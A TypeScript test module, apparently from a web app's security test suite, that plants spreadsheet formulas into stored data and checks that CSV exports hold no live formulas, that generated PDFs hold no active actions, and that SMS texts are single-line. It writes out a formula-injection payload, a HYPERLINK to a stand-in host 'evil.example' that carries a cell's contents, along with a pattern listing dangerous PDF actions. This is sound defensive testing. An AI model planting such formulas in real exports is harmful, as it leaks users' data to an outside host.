/** What was written in one room and comes out in another: table files, documents, text messages. */
import { allEndpoints } from '@jihui/protocol/all-endpoints'
import type { Endpoint } from '@jihui/protocol/endpoint'
import type { Person } from '../../apps/server/src/testing/people.ts'
import { addDays, dayOf } from '../../apps/server/src/platform/clock.ts'
import { idsFor } from './aims.ts'
import type { Estate } from './estate.ts'
import type { Ground } from './ground.ts'
import { hintsOf } from './hints.ts'
import { plantEverywhere } from './planting.ts'
import { fill, plausibleObject, queryText, schemaOf, titleOf } from './plausible.ts'
import { send } from './send.ts'

/** What a table program takes for the beginning of a formula. */
const beginnings = ['=', '+', '-', '@', '\t=', '\r=']
const formula = `HYPERLINK("http://evil.example/?"&A1,"1")`
const isFormula = (cell: string): boolean => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)

/** The cells of a table file, without their quotes. */
const cellsOf = (text: string): string[] =>
  [...text.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  )

/**
 * A PDF without the bytes of its streams, where a compressed picture or font can spell any short name by chance. Objects
 * do not lie in streams unless the file says `ObjStm`, which our documents do not.
 */
const withoutStreams = (text: string): string => text.replaceAll(/\bstream\r?\n[\s\S]*?\bendstream\b/g, '')

/** Endpoints that answer a file, each with the query that makes it one. */
const filesOf = (line: string): { endpoint: Endpoint; more: Record<string, string> }[] =>
  allEndpoints()
    .filter((endpoint) => (endpoint.line === undefined || endpoint.line === line) && endpoint.shape.method === 'GET')
    .flatMap((endpoint) => {
      const format = schemaOf(endpoint.shape.query).properties?.format?.enum as string[] | undefined
      if (format?.includes('csv')) return [{ endpoint, more: { format: 'csv' } }]
      return ['pdf', 'file'].includes(endpoint.shape.produces ?? '') ? [{ endpoint, more: {} }] : []
    })

export const tryEchoes = async (ground: Ground, estate: Estate, superAdmin: Person): Promise<void> => {
  const { findings, site, say, base, isShort, seed } = ground
  const { pool } = site.app
  const day = dayOf(new Date())
  const hints = hintsOf(estate, day)
  const people = [superAdmin, estate.renter, estate.owner]
  const counts = { tables: 0, cells: 0, formulas: 0, documents: 0 }
  const signs = isShort ? [beginnings[seed % beginnings.length]!] : beginnings

  const judge = (place: string, type: string, text: string): void => {
    if (type.includes('csv')) {
      const cells = cellsOf(text)
      counts.tables += 1
      counts.cells += cells.length
      counts.formulas += cells.filter((cell) => cell.includes(formula)).length
      const live = cells.filter(isFormula)
      findings.expect(live.length === 0, 'a table file holds no formula somebody wrote', place, live.slice(0, 3))
    }
    if (!type.includes('pdf')) return
    counts.documents += 1
    const active =
      /\/(JavaScript|JS|Launch|SubmitForm|ImportData|EmbeddedFile|ObjStm)\b|\/URI \((?!https?:\/\/(127|localhost))/.exec(
        withoutStreams(text),
      )
    findings.expect(!active, 'a document does nothing', place, active?.[0])
  }
  for (const sign of signs) {
    await plantEverywhere(pool, sign + formula)
    for (const { endpoint, more } of filesOf(estate.line)) {
      const query = {
        ...plausibleObject(schemaOf(endpoint.shape.query), hints, false),
        from: addDays(day, -30),
        to: day,
      }
      const own = { order: estate.orders.in_use, machine: estate.machines[0]!.id }
      for (const ids of idsFor(endpoint, estate, own))
        for (const { token } of people) {
          const path = fill(endpoint.path, (name) => ids[name] ?? hints.byPath[name] ?? estate.line)
          const told = await send(base(), path + queryText({ ...query, ...more }), { token })
          const place = `${titleOf(endpoint)} after ${JSON.stringify(sign)}`
          findings.expect(told.status < 500, 'a file is made whatever its texts say', place, told.text.slice(0, 200))
          if (told.status === 200) judge(place, String(told.headers['content-type']), told.text)
        }
    }
  }
  findings.expect(counts.formulas > 0, 'what was written comes out', 'table files', counts)
  // Every text message there was, of all that was done here before.
  const { rows: texts } = await pool.query<{ text: string }>(
    `SELECT payload->>'text' AS text FROM outbox WHERE topic = 'notification.sms'`,
  )
  const bad = texts.filter(({ text }) => !/^【机汇】[^【】\r\n]*$/.test(text))
  findings.expect(bad.length === 0, 'a text message is one line with one signature', 'outbox', bad.slice(0, 3))
  say(
    `echoes: ${counts.tables} table files with ${counts.cells} cells, ${counts.formulas} of them written as formulas and shown as text; ${counts.documents} documents, ${texts.length} text messages`,
  )
}
